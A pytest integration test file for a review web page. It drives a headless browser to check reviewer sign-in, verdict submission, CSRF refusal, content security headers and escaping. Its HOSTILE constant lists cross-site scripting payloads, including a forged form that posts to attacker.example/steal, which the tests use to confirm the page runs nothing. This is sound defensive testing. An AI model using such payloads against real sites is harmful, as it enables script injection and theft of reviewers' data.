"""The review page in a real browser, on escalations from a real fleet.

A LocalFleet (three worker processes, the built-in judge) reviews the requests; the page
runs as ``windags-eval review-ui`` in its own process; headless Chromium (Debian's, with
its own driver) reads and submits it. Hostile output is checked where it matters: in the
browser, after the page loaded.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis

from schemas.decisions import Decision
from schemas.human import HumanDecision, HumanVerdict, VerdictAction, VerdictInput
from schemas.result import ErrorCode, ReviewError, ReviewResult
from tests.infrastructure import wait_until
from tests.integration.review_page import TOKEN, Reviewer, chromium, csrf_of, key_path, review_page
from tests.integration.support import fresh_dag, sample
from tests.test_review_page_render import Tags
from tests.topology.reference import demo_shape
from workers.client import ReviewClient
from workers.local.demo import sample_dag
from workers.local.launcher import LocalFleet
from workers.results.stream import ResultStream, read_all_kinds
from workers.settings import Settings

pytestmark = pytest.mark.integration

#: Each line tries a different way to run script, or to post elsewhere.
HOSTILE = "\n".join(
    [
        "<script>window.pwned = 'script'; alert('script')</script>",
        "<img src=\"x\" onerror=\"window.pwned = 'onerror'; alert('onerror')\">",
        '<a id="js-link" href="javascript:window.pwned=\'link\'">click me</a>',
        "[md link](javascript:window.pwned='markdown')",
        '<form id="forged" action="https://attacker.example/steal" method="post">'
        '<input name="csrf" value="x"><button>Approve</button></form>',
        '"><svg onload="window.pwned=\'svg\'">',
    ]
)


@pytest.fixture(scope="module")
def page_url(
    fleet: LocalFleet, fleet_env: dict[str, str], redis_url: str, tmp_path_factory: Any
) -> Iterator[str]:
    log = tmp_path_factory.mktemp("review-ui") / "review-ui.log"
    with review_page({**fleet_env, "WINDAGS_REDIS_URL": redis_url}, log) as base:
        yield base


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    driver = chromium()
    yield driver
    driver.quit()


def escalate(
    client: ReviewClient,
    db: redis.Redis,
    *,
    along: list[dict[str, Any]] | None = None,
    **changes: Any,
) -> str:
    """Submit the conflicting-signals sample (a person must look), and ``along`` with it
    on the same DAG; wait for every result; the sample's review key."""
    along = along or []
    dag_id = along[0]["dag_id"] if along else fresh_dag()
    body = sample("example3_conflicting_signals.json", dag_id=dag_id, **changes)
    key = client.submit(body)
    client.submit_many(along)
    stream = client.settings.keys.results(dag_id)
    assert wait_until(lambda: db.xlen(stream) >= 1 + len(along), timeout_s=90), key
    [entry] = [e for e in read_all_kinds(db, stream) if e.fields["review_key"] == key]
    assert isinstance(entry.payload, ReviewResult)
    assert entry.payload.decision is Decision.ESCALATE_HUMAN
    return key


def sign_in(browser: Any, base: str, name: str) -> None:
    browser.delete_all_cookies()
    browser.get(f"{base}/login")
    browser.find_element("id", "name").send_keys(name)
    browser.find_element("id", "token").send_keys(TOKEN)
    browser.find_element("id", "sign-in").click()
    shows(browser, ".who", f"signed in as {name}")


def shows(browser: Any, selector: str, text: str) -> str:
    """Wait (bounded) until the element at ``selector`` of the loaded page shows ``text``."""
    from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
    from selenium.webdriver.support.ui import WebDriverWait

    def found(driver: Any) -> str | None:
        try:
            seen = str(driver.find_element("css selector", selector).text)
        except (NoSuchElementException, StaleElementReferenceException):
            return None
        return seen if text in seen else None

    return str(WebDriverWait(browser, 15).until(found))


def screenshot_dir(tmp_path: Path) -> Path:
    """``WINDAGS_SCREENSHOT_DIR`` (docs/ when refreshing the README's pictures), else tmp."""
    return Path(os.environ.get("WINDAGS_SCREENSHOT_DIR") or tmp_path)


@pytest.mark.browser
def test_a_reviewer_sends_back_an_escalated_node_and_the_stream_carries_it(
    page_url: str,
    browser: Any,
    client: ReviewClient,
    redis_db: redis.Redis,
    settings: Settings,
    tmp_path: Path,
) -> None:
    # The demo's sample DAG rides along: its escalations fill the queue like a real run's.
    key = escalate(client, redis_db, along=sample_dag(fresh_dag()))
    dag_id, node_id, _ = key.split(":")
    shots = screenshot_dir(tmp_path)

    sign_in(browser, page_url, "alice")
    browser.get(f"{page_url}/?dag={dag_id}")
    rows = browser.find_elements("css selector", "#queue tbody tr")
    assert len(rows) == 6  # the sample DAG's five escalations and this one
    link = browser.find_element("css selector", f'a[href="{key_path(key)}"]')
    browser.save_screenshot(str(shots / "review-queue.png"))
    link.click()
    shows(browser, "#status", "Claimed by you")
    assert "disagreement" in browser.page_source
    assert "SUM(amount) OVER" in browser.find_element("id", "output").text
    browser.set_window_size(1400, 2000)
    browser.save_screenshot(str(shots / "review-item.png"))
    browser.set_window_size(1400, 1000)

    browser.find_element("id", "action-send_back").click()
    browser.find_element("name", "score_correctness").send_keys("0.6")
    browser.find_element("id", "feedback").send_keys("Add a LIMIT and an index hint.")
    browser.find_element("id", "comment").send_keys("times out on the big tenant")
    browser.find_element("id", "submit-verdict").click()
    shows(browser, "#status", "Decided by alice")

    entries = [
        e
        for e in read_all_kinds(redis_db, settings.keys.results(dag_id))
        if e.fields["review_key"] == key
    ]
    assert [e.fields["kind"] for e in entries] == ["result", "human_verdict", "decision"]
    verdict, decision = entries[1].payload, entries[2].payload
    assert isinstance(verdict, HumanVerdict) and isinstance(decision, HumanDecision)
    assert (verdict.reviewer, verdict.action, verdict.human_score) == (
        "alice",
        VerdictAction.SEND_BACK,
        0.6,
    )
    assert verdict.comment == "times out on the big tenant"
    assert entries[1].fields["review_key"] == entries[2].fields["review_key"] == key
    assert decision.node_id == node_id and decision.decision is Decision.ITERATE
    assert decision.confidence.weights["human"] == 0.5
    assert decision.feedback is not None
    assert decision.feedback.specific_issues[0].issue == "Add a LIMIT and an index hint."


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["text", "markdown"])
def test_hostile_output_is_shown_as_text_and_runs_nothing(
    page_url: str, browser: Any, client: ReviewClient, redis_db: redis.Redis, kind: str
) -> None:
    from selenium.common.exceptions import NoAlertPresentException

    key = escalate(
        client,
        redis_db,
        output={"kind": kind, "content": HOSTILE},
        task=HOSTILE,
        sources=[
            {"id": "s1", "title": HOSTILE[:200], "url": "javascript:alert(1)", "text": HOSTILE}
        ],
    )
    sign_in(browser, page_url, "mallory-target")
    browser.get(page_url + key_path(key))
    shows(browser, "#status", "Claimed by you")

    with pytest.raises(NoAlertPresentException):
        browser.switch_to.alert.text  # noqa: B018 (reading it is the check)
    assert browser.execute_script("return typeof window.pwned") == "undefined"
    output = browser.find_element("id", "output").text
    if kind == "text":
        assert "<script>window.pwned = 'script'; alert('script')</script>" in output
    assert 'onerror="window.pwned' in output
    assert "<form" in browser.find_element("id", "task").text
    count = browser.execute_script
    assert count("return document.querySelectorAll('script').length") == 0
    assert count("return document.querySelectorAll('[onerror], [onload]').length") == 0
    assert count("return document.querySelectorAll('a[href^=\"javascript:\" i]').length") == 0
    assert count("return document.querySelectorAll('#output img, #output svg').length") == 0
    forms = count("return [...document.forms].map(f => f.getAttribute('action'))")
    assert forms == ["/logout", f"{key_path(key)}/verdict"]


CODE_ANSWER = (
    "Here is the manifest and how to apply it.\n\n"
    "```yaml\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n spec:\n"
    "  replicas: 3\n```\n\n```bash\n$ kubectl apply -f web.yaml\n```\n\n"
    "```rust\nfn main() {}\n```\n"
)


@pytest.mark.browser
def test_the_page_shows_each_code_block_and_where_a_broken_one_breaks(
    page_url: str, browser: Any, client: ReviewClient, redis_db: redis.Redis, tmp_path: Path
) -> None:
    key = escalate(client, redis_db, output={"kind": "markdown", "content": CODE_ANSWER})
    sign_in(browser, page_url, "carol")
    browser.get(page_url + key_path(key))
    shows(browser, "#status", "Claimed by you")
    rows = [r.text for r in browser.find_elements("css selector", "#code-blocks tbody tr")]
    assert len(rows) == 3
    assert "yaml" in rows[0] and "syntax error" in rows[0]
    assert "a console session" in rows[1] and "no parser for 'rust'" in rows[2]
    findings = browser.find_element("css selector", ".findings").text
    assert "BrokenCodeBlock" in findings
    assert "block 1, line 5, column 2 (output line 8)" in findings
    browser.set_window_size(1400, 2000)
    browser.save_screenshot(str(screenshot_dir(tmp_path) / "review-code.png"))
    browser.set_window_size(1400, 1000)


def test_the_page_sends_a_strict_content_security_policy(page_url: str) -> None:
    import urllib.request

    with urllib.request.urlopen(f"{page_url}/login", timeout=10) as answer:
        policy = answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "form-action 'self'" in policy and "frame-ancestors 'none'" in policy


def test_a_post_without_the_csrf_token_or_the_reviewer_token_is_refused(
    page_url: str, client: ReviewClient, redis_db: redis.Redis, settings: Settings
) -> None:
    key = escalate(client, redis_db)
    form = {"action": "accept"}

    stranger = Reviewer(page_url)  # never signed in
    stranger.get("/login")
    assert stranger.post(f"{key_path(key)}/verdict", {**form, "csrf": "x"})[0] == 401
    assert stranger.sign_in("eve", token="wrong-token-wrong-token") == 401
    assert stranger.post(f"{key_path(key)}/verdict", form)[0] == 401

    alice = Reviewer(page_url)
    assert alice.sign_in("alice") == 200
    _, page = alice.get(key_path(key))
    assert alice.post(f"{key_path(key)}/verdict", form)[0] == 403  # no CSRF token
    assert alice.post(f"{key_path(key)}/verdict", {**form, "csrf": "forged"})[0] == 403
    bob = Reviewer(page_url)
    bob.sign_in("bob")
    _, bobs_page = bob.get("/")  # bob's token is bound to bob's cookie and name
    assert alice.post(f"{key_path(key)}/verdict", {**form, "csrf": csrf_of(bobs_page)})[0] == 403

    kinds = [
        e.fields["kind"] for e in read_all_kinds(redis_db, settings.keys.results(key.split(":")[0]))
    ]
    assert kinds == ["result"]
    # The real form, twice: one verdict; the second submission is told who decided.
    fields = {**form, "csrf": csrf_of(page)}
    assert alice.post(f"{key_path(key)}/verdict", fields)[0] == 200
    status, text = alice.post(f"{key_path(key)}/verdict", fields)
    assert status == 409 and "Already decided by alice" in text
    kinds = [
        e.fields["kind"] for e in read_all_kinds(redis_db, settings.keys.results(key.split(":")[0]))
    ]
    assert kinds == ["result", "human_verdict", "decision"]


def test_two_reviewers_opening_one_item_see_it_claimed(
    page_url: str, client: ReviewClient, redis_db: redis.Redis
) -> None:
    key = escalate(client, redis_db)
    alice, bob = Reviewer(page_url), Reviewer(page_url)
    alice.sign_in("alice")
    bob.sign_in("bob")
    assert "Claimed by you" in alice.get(key_path(key))[1]
    _, seen = bob.get(key_path(key))
    assert "Claimed by <strong>alice</strong>" in seen and 'id="verdict-form"' not in seen
    assert "claimed by alice" in bob.get("/?dag=" + key.split(":")[0])[1]


@pytest.mark.browser
def test_the_dag_page_shows_the_demo_dags_nodes_live_and_review_items_link_to_it(
    page_url: str,
    browser: Any,
    client: ReviewClient,
    redis_db: redis.Redis,
    settings: Settings,
    tmp_path: Path,
) -> None:
    dag_id = fresh_dag()
    client.register_dag(demo_shape(dag_id))
    client.submit_many(sample_dag(dag_id))
    stream = settings.keys.results(dag_id)
    assert wait_until(lambda: redis_db.xlen(stream) >= 14, timeout_s=90)

    sign_in(browser, page_url, "alice")
    browser.get(f"{page_url}/?dag={dag_id}")
    browser.find_element("css selector", "#queue a.dag-link").click()
    shows(browser, "#totals", "14 of 18 nodes reviewed")
    rows = browser.find_elements("css selector", "#dag-nodes tbody tr")
    states = {
        row.get_attribute("data-node"): row.find_element("css selector", "td.state").text
        for row in rows
    }
    assert len(states) == 18
    assert [n for n, s in states.items() if s == "not reviewed yet"] == [
        "backfill-run",
        "verify",
        "plan-review",
        "execution-engine",
    ]
    waiting = [n for n, s in states.items() if s == "waiting for a person"]
    assert len(waiting) == 5  # the sample DAG's five escalations
    assert {s for n, s in states.items() if n not in waiting} <= {
        "accepted",
        "iterating",
        "not reviewed yet",
    }
    browser.save_screenshot(str(screenshot_dir(tmp_path) / "dag-page.png"))

    # A waiting node links to its review item, and the item back to its DAG.
    browser.find_element("css selector", f'tr[data-node="{waiting[0]}"] td.state a').click()
    shows(browser, "#status", "Claimed by you")
    browser.find_element("css selector", "h1 a.dag-link").click()
    shows(browser, "#totals", "14 of 18 nodes reviewed")
    # A verdict recorded elsewhere reaches the open page on its own (it reloads itself).
    client.record_verdict(
        dag_id, waiting[1], 1, VerdictInput(action=VerdictAction.ACCEPT), reviewer="bob"
    )
    shows(browser, f'tr[data-node="{waiting[1]}"] td.state', "accepted")
    assert "(by bob)" in browser.find_element("css selector", f'tr[data-node="{waiting[1]}"]').text


def test_the_dag_page_shows_hostile_error_text_as_text(
    page_url: str, redis_db: redis.Redis, settings: Settings
) -> None:
    dag_id = fresh_dag()
    stream = ResultStream(redis_db, settings.keys, retention_s=3600, dedup_ttl_s=3600)
    error = ReviewError(
        dag_id=dag_id,
        node_id="n1",
        attempt=1,
        code=ErrorCode.INVALID_REQUEST,
        message=HOSTILE,
    )
    stream.publish_error(error, review_key=f"{dag_id}:n1:1")
    alice = Reviewer(page_url)
    alice.sign_in("alice")
    status, page = alice.get(f"/dag/{dag_id}")
    assert status == 200
    tags = Tags()
    tags.feed(page)
    assert {"script", "img", "svg"}.isdisjoint(name for name, _ in tags.seen)
    assert not [k for _, attrs in tags.seen for k, _ in attrs if k.startswith("on")]
    assert "<script>window.pwned = 'script'" in tags.text
    assert alice.get(f"/dag/{fresh_dag()}")[0] == 404
    assert alice.get("/dag/not%20an%20id")[0] == 404
